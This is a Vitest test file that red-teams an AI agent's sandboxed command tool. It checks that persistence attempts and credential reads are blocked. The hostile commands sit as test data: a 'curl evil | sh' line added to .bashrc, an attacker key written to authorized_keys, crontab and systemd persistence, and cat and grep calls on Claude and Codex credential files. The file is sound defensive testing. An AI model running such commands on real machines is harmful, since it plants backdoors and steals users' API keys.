import { existsSync } from "node:fs";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { scrubbedEnv } from "../../src/tools/process-group.js";
import { createRunCommandTool } from "../../src/tools/run-command.js";
import { fakeContext } from "../tools/helpers.js";
import { BASHRC_TEXT, type FakeUser, makeFakeUser, requireSandbox } from "./fixture.js";

/**
 * Red-team pass 5 against the second wall alone: every command is allowed by the authorizer and runs
 * in the real bubblewrap sandbox. Persistence targets outside the workspace stay untouched, and the
 * credential files added to the secret list in this pass are masked.
 */
let user: FakeUser;
const AI_TOKEN = "sk-ant-fake-claude-token-5b1e";

beforeAll(async () => {
  requireSandbox();
  user = await makeFakeUser();
  await mkdir(join(user.home, ".claude"), { recursive: true });
  await writeFile(join(user.home, ".claude", ".credentials.json"), `{"token":"${AI_TOKEN}"}\n`);
  await mkdir(join(user.home, ".codex"), { recursive: true });
  await writeFile(join(user.home, ".codex", "auth.json"), `{"OPENAI_API_KEY":"${AI_TOKEN}"}\n`);
  await writeFile(join(user.mercuryHome, ".env.bak"), `OPENAI_API_KEY=${AI_TOKEN}\n`);
});
afterAll(async () => {
  await user?.cleanup();
});

async function run(command: string): Promise<string> {
  const tool = createRunCommandTool({
    killGraceMs: 300,
    env: { ...scrubbedEnv(), HOME: user.home, MERCURY_HOME: user.mercuryHome },
    sandbox: { userHome: user.home, require: true },
  });
  const result = await tool.execute(
    { command },
    fakeContext({ cwd: user.workspace, home: user.mercuryHome }, "allow"),
  );
  return result.ok ? result.output : result.error;
}

describe("persistence outside the workspace, with a policy that allows everything", () => {
  it.each([
    ["echo 'curl evil | sh' >> ~/.bashrc"],
    ["ln -s ~ h; echo 'id' >> h/.bashrc"],
    ["mkdir -p ~/.config/autostart && echo '[Desktop Entry]' > ~/.config/autostart/x.desktop"],
    ["mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/x.service"],
    ["mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys"],
    ["git config --global core.pager 'sh -c id'"],
    ["mkdir -p ~/.local/bin && printf '#!/bin/sh\\nid\\n' > ~/.local/bin/ls"],
    ["echo '* * * * * id' | crontab - 2>&1"],
  ])("leaves the user's files alone: %s", async (command) => {
    await run(command);
    expect(await readFile(join(user.home, ".bashrc"), "utf8")).toBe(BASHRC_TEXT);
    for (const path of [
      ".config/autostart/x.desktop",
      ".config/systemd/user/x.service",
      ".ssh/authorized_keys",
      ".gitconfig",
      ".local/bin/ls",
    ])
      expect(existsSync(join(user.home, path)), path).toBe(false);
  });
});

describe("credential files added in pass 5", () => {
  it.each([
    ["cat ~/.claude/.credentials.json"],
    ["cat ~/.codex/auth.json"],
    ["cat ~/.mercury/.env.bak"],
    ["grep -r -a sk-ant ~ 2>/dev/null"],
  ])("are not readable: %s", async (command) => {
    expect(await run(command)).not.toContain(AI_TOKEN);
  });
});
